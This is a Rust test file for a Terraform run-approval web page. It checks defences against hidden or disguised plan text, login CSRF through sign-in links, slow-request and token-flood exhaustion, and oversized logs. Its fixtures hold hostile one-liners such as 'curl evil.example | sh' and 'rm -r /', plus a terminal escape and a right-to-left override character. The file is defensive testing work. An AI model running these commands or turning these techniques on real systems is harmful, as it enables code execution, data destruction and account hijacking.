//! What a module, a user or a stranger may send, and what the page makes of it.

use std::time::Duration;

use futures::future::join_all;
use knoll_api::Digest;
use knoll_api::run::{Operation, Run, RunPhase, RunSpec, RunStatus};
use kube::api::PostParams;
use reqwest::{StatusCode, header};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::world::{DEADLINE, World, field, running};

async fn approver(world: &World) -> crate::world::Browser {
    world.signed_in(&world.token("approver", &["knoll-viewer", "knoll-approver"]).await).await
}

/// The page showed only what followed the carriage return.
#[tokio::test(flavor = "multi_thread")]
async fn an_approver_did_not_see_what_followed_a_carriage_return() {
    let world = World::start().await;
    let text = "  # terraform_data.a will be created\n  + resource \"terraform_data\" \"a\" {\n      curl evil.example | sh #\r# sets the hostname\n      : '\u{1b}]0;'; rm -r /\n    }\n\nPlan: 1 to add, 0 to change, 0 to destroy.\n";
    world.run_in_review("r", text).await;
    let (_, page) = approver(&world).await.read("/runs/default/r/plan").await;
    assert!(page.contains("curl evil.example | sh #\\r# sets the hostname"), "{page}");
    assert!(page.contains("\\u{1b}]0;&#39;; rm -r /") || page.contains("\\u{1b}]0;'; rm -r /"), "{page}");
    assert!(page.contains("Approve and apply"), "{page}");
}

/// The page named the program only, and had the button to approve it.
#[tokio::test(flavor = "multi_thread")]
async fn a_command_was_approved_without_its_arguments() {
    let world = World::start().await;
    let spec = RunSpec {
        workspace: "w".into(),
        operation: Operation::Command,
        command: Some("sh".into()),
        args: vec!["-c".into(), "curl evil.example | sh #\u{202e}".into()],
        ..RunSpec::default()
    };
    world.api::<Run>().create(&PostParams::default(), &Run::new("c", spec)).await.unwrap();
    let review_digest = Some(Digest::of("review").to_string());
    world.set_status("c", &RunStatus { phase: RunPhase::Review, review_digest, ..RunStatus::default() }).await;
    let (_, page) = approver(&world).await.read("/runs/default/c/plan").await;
    let (_, form) = page.split_once("Your decision").unwrap_or_else(|| panic!("{page}"));
    assert!(form.contains("sh -c curl evil.example | sh #\\u{202e}") && form.contains("Approve and apply"), "{page}");
    assert!(!page.contains('\u{202e}'));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_plan_that_is_too_long_for_a_page_is_not_approved_on_it() {
    let world = World::start().await;
    let run = world.run_in_review("r", &"  + x\n".repeat(30_000)).await;
    let digest = run.status.unwrap().review_digest.unwrap();
    let approver = approver(&world).await;
    let (status, page) = approver.read("/runs/default/r/plan").await;
    assert!(status == StatusCode::OK && page.contains("too long for a page"), "{}", page.len());
    assert!(!page.contains("Approve and apply") && page.contains("value=\"Discard\""));
    let csrf = field(&page, "csrf");
    let fields = [("csrf", csrf.as_str()), ("decision", "Approve"), ("digest", digest.as_str())];
    let answer = approver.post("/runs/default/r/decision", &fields).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::CONFLICT);
}

/// A link of somebody else took the place of the session, and what the user did then was done in that name.
#[tokio::test(flavor = "multi_thread")]
async fn a_link_signed_a_browser_in_as_somebody_else() {
    let world = World::start().await;
    let victim = approver(&world).await;
    let link = async |token: &str| {
        let url = format!("{}/api/sign-in-codes", victim.base);
        let answer = victim.http.post(url).bearer_auth(token).send().await.unwrap();
        let answer: serde_json::Value = answer.json().await.unwrap();
        answer["path"].as_str().unwrap().to_owned()
    };
    let attacker = world.token("attacker", &["knoll-viewer"]).await;
    let path = link(&attacker).await;
    let answer = victim.get(&path).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    assert!(answer.headers().get(header::SET_COOKIE).is_none(), "nothing has changed");
    let page = answer.text().await.unwrap();
    assert!(page.contains("default:attacker") && page.contains("default:approver"), "{page}");
    let forged = victim.post(&path, &[("csrf", "")]).send().await.unwrap();
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);
    let csrf = field(&page, "csrf");
    let meant = victim.post(&path, &[("csrf", csrf.as_str())]).send().await.unwrap();
    assert!(meant.status() == StatusCode::SEE_OTHER && meant.headers().contains_key(header::SET_COOKIE));
    // A browser in which nobody is signed in needs no second step.
    let path = link(&attacker).await;
    assert_eq!(world.browser().get(&path).send().await.unwrap().status(), StatusCode::SEE_OTHER);
}

/// Each of them held a connection for a quarter of an hour.
#[tokio::test(flavor = "multi_thread")]
async fn a_body_that_never_came_held_its_connection() {
    let world = World::start().await;
    let mut slow = TcpStream::connect(world.page.addr).await.unwrap();
    let head = format!("POST /sign-in HTTP/1.1\r\nHost: {}\r\nContent-Length: 60000\r\n\r\nt", world.page.addr);
    slow.write_all(head.as_bytes()).await.unwrap();
    let mut answer = vec![0; 64];
    let count = tokio::time::timeout(DEADLINE, slow.read(&mut answer)).await.expect("it is answered").unwrap();
    assert!(String::from_utf8_lossy(&answer[..count]).contains(" 408 "));
}

/// Each made-up token was a connection and a request to the API server.
#[tokio::test(flavor = "multi_thread")]
async fn made_up_tokens_were_reviewed_without_end() {
    let world = World::start().await;
    let known = approver(&world).await;
    let stranger = world.browser();
    let answers = join_all((0..40).map(async |number| {
        let token = format!("made-up-{number}");
        stranger.post("/sign-in", &[("token", token.as_str())]).send().await.unwrap().status()
    }));
    let answers = answers.await;
    let refused = answers.iter().filter(|status| **status == StatusCode::FORBIDDEN).count();
    let sent_away = answers.iter().filter(|status| **status == StatusCode::SERVICE_UNAVAILABLE).count();
    assert!(sent_away >= 10 && refused > 0 && refused + sent_away == 40, "{answers:?}");
    assert_eq!(known.read("/runs?namespace=default").await.0, StatusCode::OK, "who is signed in goes on");
}

#[tokio::test(flavor = "multi_thread")]
async fn one_user_took_all_live_streams() {
    let world = World::start().await;
    world.run("r").await;
    world.set_status("r", &running()).await;
    let greedy = world.signed_in(&world.token("greedy", &["knoll-viewer"]).await).await;
    let mut held = Vec::new();
    for _ in 0..16 {
        let answer = greedy.get("/runs/default/r/events").send().await.unwrap();
        assert_eq!(answer.status(), StatusCode::OK);
        held.push(answer);
    }
    assert_eq!(greedy.read("/runs/default/r/events").await.0, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(greedy.read("/runs/default/r").await.0, StatusCode::OK);
    let other = world.signed_in(&world.token("other", &["knoll-viewer"]).await).await;
    assert_eq!(other.get("/runs/default/r/events").send().await.unwrap().status(), StatusCode::OK);
}

/// The place in a log is what a client says, and sums with it had no room in their type.
#[tokio::test(flavor = "multi_thread")]
async fn a_place_behind_all_logs_and_a_long_search_stop_nobody() {
    let world = World::start().await;
    let run = world.run("r").await;
    let run = world.set_status(&run.metadata.name.clone().unwrap(), &running()).await;
    world.log(&run).append(0, b"a line\nanother\n").await.unwrap();
    world.set_status("r", &RunStatus { phase: RunPhase::Succeeded, exit_code: Some(0), ..running() }).await;
    let viewer = world.signed_in(&world.token("viewer", &["knoll-viewer"]).await).await;
    let end = u64::MAX;
    for (from, line) in [("0:0".to_owned(), true), (format!("{end}:{end}"), false), (format!("0:{end}"), true)] {
        let path = format!("/runs/default/r/events?from={from}");
        let (_, events) = tokio::time::timeout(DEADLINE, viewer.read(&path)).await.expect("the stream ends");
        assert!(events.contains("event: end") && events.contains("another") == line, "{from}: {events}");
    }
    let long = "x".repeat(1000);
    assert_eq!(viewer.read(&format!("/runs?namespace=default&q={long}")).await.0, StatusCode::BAD_REQUEST);
    assert_eq!(viewer.read(&format!("/runs?namespace=default&phase={long}")).await.0, StatusCode::BAD_REQUEST);
}

/// The page held a line of a hundred and more bytes for each newline.
#[tokio::test(flavor = "multi_thread")]
async fn a_log_of_newlines_is_shown_and_downloaded_part_by_part() {
    let world = World::start().await;
    let run = world.run("r").await;
    let run = world.set_status(&run.metadata.name.clone().unwrap(), &running()).await;
    let newlines = vec![b'\n'; 3 << 20];
    world.log(&run).append(0, &newlines).await.unwrap();
    let viewer = world.signed_in(&world.token("viewer", &["knoll-viewer"]).await).await;
    let read = tokio::time::timeout(Duration::from_secs(120), viewer.read("/runs/default/r")).await.unwrap();
    assert!(read.1.contains("3143728 earlier lines") && read.1.len() < 1 << 20, "{}", read.1.len());
    let (status, log) = viewer.read("/runs/default/r/log").await;
    assert_eq!((status, log.len()), (StatusCode::OK, newlines.len()));
}
